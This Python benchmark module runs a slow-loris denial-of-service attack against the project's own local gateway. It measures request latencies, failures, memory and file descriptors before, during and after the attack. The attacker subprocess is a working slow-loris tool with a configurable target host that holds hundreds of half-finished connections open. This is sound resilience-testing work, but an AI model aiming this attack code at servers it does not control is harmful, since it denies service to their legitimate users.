"""Slow-loris: 500 slow connections from a second process while ordinary requests go on.

Runs the four sandboxes in one process and a sandbox-mode gateway in another (as bench.fanout
does). This process makes ordinary requests on a fixed schedule (an open loop: a slow answer
does not slow the sender), each on a new connection as a new visitor's would be, alternating
`GET /healthz` and `POST /v1/sandbox/bundel`, and samples the gateway's resident memory, open
file descriptors and CPU time from /proc every second. In three phases:

1. before: ordinary requests alone;
2. during: an attacker process (this module, `attack`) keeps `--connections` connections open
   to the gateway: most send a request's headers one byte at a time and never finish them, the
   rest (`--body-share`) send complete headers of a `POST` and then its body one byte at a time.
   A connection the gateway cuts off is opened again, so the pressure stays;
3. after: the attacker has closed everything; ordinary requests alone again.

The report: ordinary requests sent, failed (no answer within `--timeout` or not 200) and their
p50 and p99 per phase; the gateway's RSS, descriptors and CPU per phase; and from the attacker,
how many slow connections the gateway cut off, after how long, and with what answer if any.
Exit status 1 when an ordinary request failed during the attack or memory grew by more than
`--max-rss-growth-mib` from before to during.

    .venv/bin/python -m bench.slowloris             # 500 connections, 60 s of attack
    .venv/bin/python -m bench.slowloris --quick     # 500 connections, 15 s of attack
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import random
import resource
import statistics
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import orjson

from bench.fanout import (
    CITIZEN,
    bench_env,
    percentile,
    process_cpu_seconds,
    services,
    wait_until_up,
)
from bench.soak import open_fds, rss_kb
from gateway.config import load_settings

GATEWAY_PORT = 18380
SANDBOX_BASE_PORT = 19401
SAMPLE_SECONDS = 1.0
PHASES = ("before", "during", "after")


# --- the attacker (its own process) -------------------------------------------------------------


@dataclass
class Cut:
    kind: str  # "headers" or "body"
    after_s: float  # from the connection's first byte to the gateway closing it
    answer: str  # the status line the gateway sent first, or "" when it just closed


@dataclass
class Attack:
    host: str
    port: int
    connections: int
    seconds: float
    interval: float
    body_share: float
    opened: int = 0
    open_now: int = 0
    connect_failures: int = 0
    cuts: list[Cut] = field(default_factory=list)
    bytes_sent: int = 0
    first_tries: int = 0
    all_tried: asyncio.Event = field(default_factory=asyncio.Event)

    def tried(self) -> None:
        self.first_tries += 1
        if self.first_tries == self.connections:
            self.all_tried.set()

    def status(self, event: str) -> dict[str, Any]:
        return {
            "event": event,
            "open": self.open_now,
            "opened": self.opened,
            "cut": len(self.cuts),
            "connect_failures": self.connect_failures,
        }


def _headers_request(host: str, port: int) -> bytes:
    """A GET whose header block never ends: one more header line after another."""
    lines = [f"GET /healthz HTTP/1.1\r\nHost: {host}:{port}\r\nUser-Agent: slowloris\r\n"]
    lines += [f"X-Slow-{i}: {i}\r\n" for i in range(10_000)]
    return "".join(lines).encode()


def _body_request(host: str, port: int, length: int) -> tuple[bytes, bytes]:
    """A POST's complete headers, and a body of `length` bytes to send one at a time."""
    head = (
        f"POST /v1/sandbox/bundel HTTP/1.1\r\nHost: {host}:{port}\r\nUser-Agent: slowloris\r\n"
        f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    ).encode()
    body = b'{"bsn": "' + CITIZEN.encode() + b'", "pad": "' + b"x" * (length - 28) + b'"}'
    return head, body[:length]


async def _read_until_closed(reader: asyncio.StreamReader) -> bytes:
    """What the gateway sends before it closes (its first 200 bytes): perhaps a 408 or 400."""
    answer = b""
    with contextlib.suppress(OSError):
        while chunk := await reader.read(4096):
            answer = (answer + chunk)[:200]
    return answer


async def _slow_connection(attack: Attack, kind: str, deadline: float) -> None:
    """One slot: keep a slow connection open until the deadline, again whenever it is cut."""
    first = True
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(attack.host, attack.port)
        except OSError:
            attack.connect_failures += 1
            await asyncio.sleep(attack.interval)
            continue
        finally:
            if first:
                attack.tried()
                first = False
        attack.opened += 1
        attack.open_now += 1
        try:
            await _drip(attack, kind, reader, writer, deadline)
        finally:
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()
            attack.open_now -= 1


async def _drip(
    attack: Attack,
    kind: str,
    reader: asyncio.StreamReader,
    writer: asyncio.StreamWriter,
    deadline: float,
) -> None:
    """Send the request a byte per interval until the deadline or until the gateway cuts it."""
    started = time.monotonic()
    if kind == "headers":
        head, payload = b"", _headers_request(attack.host, attack.port)
    else:
        head, payload = _body_request(attack.host, attack.port, 4096)
    reading = asyncio.create_task(_read_until_closed(reader))
    cut = False
    try:
        if head:
            writer.write(head)
            attack.bytes_sent += len(head)
        for i in range(len(payload)):
            writer.write(payload[i : i + 1])
            await writer.drain()
            attack.bytes_sent += 1
            # The gateway may close its side at any moment; the reading task notices first.
            wait = max(0.0, min(attack.interval, deadline - time.monotonic()))
            done, _ = await asyncio.wait({reading}, timeout=wait)
            if done:
                cut = True
                break
            if time.monotonic() >= deadline:
                break
    except OSError:  # reset or broken pipe: the gateway closed it
        cut = True
    if cut:
        await asyncio.wait({reading}, timeout=1.0)
        answer = reading.result() if reading.done() else b""
        first_line = answer.split(b"\r\n", 1)[0].decode("latin-1")
        attack.cuts.append(Cut(kind, time.monotonic() - started, first_line))
    reading.cancel()


def _emit(message: dict[str, Any]) -> None:
    sys.stdout.write(orjson.dumps(message).decode() + "\n")
    sys.stdout.flush()


async def attack(args: argparse.Namespace) -> None:
    # Each slow connection is a descriptor here too; the soft limit is often 1024.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    state = Attack(
        args.host, args.port, args.connections, args.seconds, args.interval, args.body_share
    )
    bodies = round(args.connections * args.body_share)
    kinds = ["body"] * bodies + ["headers"] * (args.connections - bodies)
    random.Random(8).shuffle(kinds)
    start = time.monotonic()
    ramp_end = start + args.ramp_seconds
    deadline = ramp_end + args.seconds
    slots = []
    for i, kind in enumerate(kinds):
        # Spread the opening over the ramp: a burst of 500 SYNs would overflow the listen
        # backlog (128 in aiohttp) and measure the kernel rather than the gateway.
        await asyncio.sleep(max(0.0, start + args.ramp_seconds * i / len(kinds) - time.monotonic()))
        slots.append(asyncio.create_task(_slow_connection(state, kind, deadline)))
    # Ready once every slot has made its first try: the measured phase has the whole attack.
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(state.all_tried.wait(), max(0.1, ramp_end + 5 - time.monotonic()))
    _emit(state.status("ready") | {"nofile_limit_was": soft, "nofile_limit": hard})
    while time.monotonic() < deadline:
        await asyncio.sleep(min(5.0, max(0.0, deadline - time.monotonic())))
        _emit(state.status("status"))
    await asyncio.gather(*slots)
    cuts: dict[str, Any] = {}
    for kind in ("headers", "body"):
        mine = [c for c in state.cuts if c.kind == kind]
        answers: dict[str, int] = {}
        for c in mine:
            answers[c.answer or "(closed without an answer)"] = (
                answers.get(c.answer or "(closed without an answer)", 0) + 1
            )
        cuts[kind] = {
            "slots": kinds.count(kind),
            "cut": len(mine),
            "cut_after_s_min": round(min(c.after_s for c in mine), 1) if mine else None,
            "cut_after_s_median": round(statistics.median(c.after_s for c in mine), 1)
            if mine
            else None,
            "cut_after_s_max": round(max(c.after_s for c in mine), 1) if mine else None,
            "answers": answers,
        }
    _emit(
        state.status("done")
        | {"cuts": cuts, "bytes_sent": state.bytes_sent, "attack_seconds": args.seconds}
    )


# --- the measuring side ------------------------------------------------------------------------


@dataclass
class Measured:
    phase: str = "warm-up"
    latencies: dict[str, list[float]] = field(default_factory=lambda: {p: [] for p in PHASES})
    failures: dict[str, list[str]] = field(default_factory=lambda: {p: [] for p in PHASES})
    by_kind: dict[tuple[str, str], list[float]] = field(default_factory=dict)
    # (phase, seconds since start, RSS kB, open descriptors, CPU seconds)
    resources: list[tuple[str, float, int, int, float]] = field(default_factory=list)
    attacker: list[dict[str, Any]] = field(default_factory=list)


def nofile_limit(pid: int) -> str:
    for line in Path(f"/proc/{pid}/limits").read_text().splitlines():
        if line.startswith("Max open files"):
            soft, hard = line.split()[3:5]
            return f"{soft}/{hard}"
    return "?"


def error_lines(log: Path) -> dict[str, int]:
    """The gateway's error-level log lines by message: what an attack costs the operator."""
    counts: dict[str, int] = {}
    for line in log.read_bytes().splitlines():
        with contextlib.suppress(orjson.JSONDecodeError):
            entry = orjson.loads(line)
            if isinstance(entry, dict) and entry.get("level") in ("error", "critical"):
                counts[str(entry.get("msg"))] = counts.get(str(entry.get("msg")), 0) + 1
    return counts


@contextlib.asynccontextmanager
async def attacker(args: argparse.Namespace, seconds: float) -> AsyncIterator[Any]:
    """The attacking process; yields its stdout reader (one JSON object a line)."""
    proc = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bench.slowloris",
        "attack",
        "--port",
        str(GATEWAY_PORT),
        "--connections",
        str(args.connections),
        "--seconds",
        str(seconds),
        "--interval",
        str(args.interval),
        "--body-share",
        str(args.body_share),
        stdout=subprocess.PIPE,
    )
    try:
        yield proc
    finally:
        if proc.returncode is None:
            proc.terminate()
        await proc.wait()


async def run(args: argparse.Namespace) -> dict[str, Any]:
    env = bench_env("bk-slowloris-", GATEWAY_PORT, SANDBOX_BASE_PORT)
    settings = load_settings(None, env)
    gateway = f"http://127.0.0.1:{GATEWAY_PORT}"
    measured = Measured()
    load_before = os.getloadavg()[0]
    # A new connection for every ordinary request: a slow-loris starves new visitors first, and
    # a pooled keep-alive connection would get past it unnoticed.
    fresh = aiohttp.TCPConnector(force_close=True, limit=0)
    timeout = aiohttp.ClientTimeout(total=args.timeout)
    log = Path(env["BLAUWEKNOP_STATE_DIR"]) / "gateway.log"
    async with (
        services(env, gateway_log=log) as pids,
        aiohttp.ClientSession(connector=fresh, timeout=timeout) as session,
    ):
        await wait_until_up(session, settings, gateway)
        pid = pids["gateway"]
        t0 = time.monotonic()

        async def ordinary(kind: str) -> None:
            phase, sent = measured.phase, time.monotonic()
            try:
                if kind == "healthz":
                    request = session.get(f"{gateway}/healthz")
                else:
                    request = session.post(f"{gateway}/v1/sandbox/bundel", json={"bsn": CITIZEN})
                async with request as response:
                    body = await response.read()
                    if response.status != 200:
                        raise RuntimeError(f"{response.status} {body[:100]!r}")
                    if kind == "bundel":
                        orjson.loads(body)
            except Exception as exc:  # a failure of any kind is what we count
                if phase in PHASES:
                    measured.failures[phase].append(f"{kind} {time.monotonic() - t0:.1f}s {exc!r}")
                return
            if phase in PHASES:
                elapsed = time.monotonic() - sent
                measured.latencies[phase].append(elapsed)
                measured.by_kind.setdefault((phase, kind), []).append(elapsed)

        async def traffic(stop: asyncio.Event) -> None:
            in_flight: set[asyncio.Task[None]] = set()
            i = 0
            start = time.monotonic()
            while not stop.is_set():
                delay = start + i / args.rate - time.monotonic()
                if delay > 0:
                    with contextlib.suppress(TimeoutError):
                        await asyncio.wait_for(stop.wait(), delay)
                    if stop.is_set():
                        break
                task = asyncio.create_task(ordinary("healthz" if i % 2 == 0 else "bundel"))
                in_flight.add(task)
                task.add_done_callback(in_flight.discard)
                i += 1
            await asyncio.gather(*in_flight)

        async def sampler(stop: asyncio.Event) -> None:
            while not stop.is_set():
                cpu = process_cpu_seconds(pids)["gateway"]
                measured.resources.append(
                    (measured.phase, time.monotonic() - t0, rss_kb(pid), open_fds(pid), cpu)
                )
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(stop.wait(), SAMPLE_SECONDS)

        stop = asyncio.Event()
        load = asyncio.create_task(traffic(stop))
        sampling = asyncio.create_task(sampler(stop))
        await asyncio.sleep(3.0)  # warm-up: pools, first bundles; not measured
        print(f"before: {args.before_seconds:.0f} s of ordinary requests at {args.rate}/s")
        measured.phase = "before"
        await asyncio.sleep(args.before_seconds)
        measured.phase = "ramp"
        print(f"during: {args.connections} slow connections for {args.attack_seconds:.0f} s")
        async with attacker(args, args.attack_seconds) as proc:
            assert proc.stdout is not None
            while line := await proc.stdout.readline():
                message = orjson.loads(line)
                measured.attacker.append(message)
                if message["event"] == "ready":
                    measured.phase = "during"
                print(f"  attacker: {message if message['event'] != 'done' else 'done'}")
            await proc.wait()
        measured.phase = "after"
        print(f"after: {args.after_seconds:.0f} s of ordinary requests")
        await asyncio.sleep(args.after_seconds)
        stop.set()
        await asyncio.gather(load, sampling)
        report = evaluate(measured, args)
        report["gateway_nofile_limit"] = nofile_limit(pid)
    report["gateway_error_log_lines"] = error_lines(log)
    report["load_average_before"] = round(load_before, 2)
    report["load_average_after"] = round(os.getloadavg()[0], 2)
    return report


def _phase_resources(measured: Measured, phase: str) -> dict[str, Any]:
    samples = [r for r in measured.resources if r[0] == phase]
    if len(samples) < 2:
        return {}
    rss = [r[2] for r in samples]
    fds = [r[3] for r in samples]
    cpu = (samples[-1][4] - samples[0][4]) / (samples[-1][1] - samples[0][1])
    return {
        "rss_median_mib": round(statistics.median(rss) / 1024, 1),
        "rss_max_mib": round(max(rss) / 1024, 1),
        "rss_last_mib": round(rss[-1] / 1024, 1),
        "fds_median": statistics.median(fds),
        "fds_max": max(fds),
        "fds_last": fds[-1],
        "cpu_percent": round(cpu * 100, 1),
    }


def evaluate(measured: Measured, args: argparse.Namespace) -> dict[str, Any]:
    report: dict[str, Any] = {
        "connections": args.connections,
        "body_share": args.body_share,
        "byte_interval_s": args.interval,
        "rate_per_s": args.rate,
    }
    for phase in PHASES:
        latencies = measured.latencies[phase]
        entry: dict[str, Any] = {
            "requests": len(latencies) + len(measured.failures[phase]),
            "failed": len(measured.failures[phase]),
        }
        if len(latencies) >= 2:
            entry["p50_ms"] = round(statistics.median(latencies) * 1000, 1)
            entry["p99_ms"] = round(percentile(latencies, 99) * 1000, 1)
        for kind in ("healthz", "bundel"):
            mine = measured.by_kind.get((phase, kind), [])
            if len(mine) >= 2:
                entry[f"{kind}_p50_ms"] = round(statistics.median(mine) * 1000, 1)
                entry[f"{kind}_p99_ms"] = round(percentile(mine, 99) * 1000, 1)
        if measured.failures[phase]:
            entry["first_failures"] = measured.failures[phase][:5]
        entry["gateway"] = _phase_resources(measured, phase)
        report[phase] = entry
    done = next((m for m in measured.attacker if m["event"] == "done"), None)
    ready = next((m for m in measured.attacker if m["event"] == "ready"), None)
    report["attacker"] = {
        "open_when_ready": ready["open"] if ready else None,
        "nofile_limit": ready.get("nofile_limit") if ready else None,
        "opened_in_all": done["opened"] if done else None,
        "connect_failures": done["connect_failures"] if done else None,
        "cut_by_gateway": done["cuts"] if done else None,
        # Slow connections open at each status line (every 5 s): the pressure held.
        "open_every_5s": [m["open"] for m in measured.attacker if m["event"] == "status"],
    }
    before = report["before"]["gateway"].get("rss_median_mib")
    during = report["during"]["gateway"].get("rss_max_mib")
    growth = round(during - before, 1) if before is not None and during is not None else None
    report["rss_growth_during_mib"] = growth
    report["pass"] = {
        "no_failed_request_during": report["during"]["failed"] == 0,
        "memory_bounded": growth is not None and growth <= args.max_rss_growth_mib,
    }
    return report


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = parser.add_subparsers(dest="command")
    parser.add_argument("--quick", action="store_true", help="15 s of attack, short phases")
    parser.add_argument("--connections", type=int, default=500)
    parser.add_argument("--body-share", type=float, default=0.1, help="slow bodies (0.1)")
    parser.add_argument("--interval", type=float, default=1.0, help="s between slow bytes (1)")
    parser.add_argument("--attack-seconds", type=float, default=60.0)
    parser.add_argument("--before-seconds", type=float, default=20.0)
    parser.add_argument("--after-seconds", type=float, default=15.0)
    parser.add_argument("--rate", type=float, default=10.0, help="ordinary requests per s (10)")
    parser.add_argument("--timeout", type=float, default=10.0, help="per ordinary request (10 s)")
    parser.add_argument("--max-rss-growth-mib", type=float, default=64.0)
    attacking = sub.add_parser("attack", help="the attacking process (started by the benchmark)")
    attacking.add_argument("--host", default="127.0.0.1")
    attacking.add_argument("--port", type=int, default=GATEWAY_PORT)
    attacking.add_argument("--connections", type=int, default=500)
    attacking.add_argument("--seconds", type=float, default=60.0)
    attacking.add_argument("--interval", type=float, default=1.0)
    attacking.add_argument("--body-share", type=float, default=0.1)
    attacking.add_argument("--ramp-seconds", type=float, default=3.0)
    args = parser.parse_args()
    if args.command == "attack":
        asyncio.run(attack(args))
        return 0
    if args.quick:
        args.attack_seconds, args.before_seconds, args.after_seconds = 15.0, 8.0, 6.0
    report = asyncio.run(run(args))
    print(orjson.dumps(report, option=orjson.OPT_INDENT_2).decode())
    return 0 if all(report["pass"].values()) else 1


if __name__ == "__main__":
    raise SystemExit(main())
